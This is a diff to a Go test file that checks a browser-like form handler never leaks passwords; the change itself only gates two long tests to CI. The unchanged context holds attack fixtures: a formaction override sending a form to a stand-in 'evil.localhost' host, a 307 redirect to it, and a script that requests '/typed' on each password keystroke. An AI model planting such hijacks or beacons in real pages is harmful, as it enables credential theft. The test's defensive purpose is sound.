@@ -22,6 +22,7 @@ func to(host, path string, status int) func(http.ResponseWriter, *http.Request) 
 // TestJudgedSubmitter: a form sends what was judged, whatever element a click activates. A password
 // is never part of an address.
 func TestJudgedSubmitter(t *testing.T) {
+	pipetest.InCI(t, "it is long, and TestNothingLeaves is quick")
 	t.Parallel()
 	const evil = `formaction=http://evil.localhost:PORT/got`
 	pages := map[string]any{"evil/got": "", "shop/take": "<h1>Welcome</h1>", "shop/r307": to("evil", "/got", 307)}
@@ -140,6 +141,7 @@ func TestNothingLeaves(t *testing.T) {
 
 // TestCancelledLogin: a log-in that is cancelled before it sends empties the fields.
 func TestCancelledLogin(t *testing.T) {
+	pipetest.InCI(t, "it is long, and TestRefusedLogin is quick")
 	t.Parallel()
 	h := serve(t, map[string]any{"shop/login": field + `<button disabled>Log in</button></form><script>pw.oninput = () => fetch('/typed')</script>`, "shop/typed": ""})
 	p := h.start(shop)
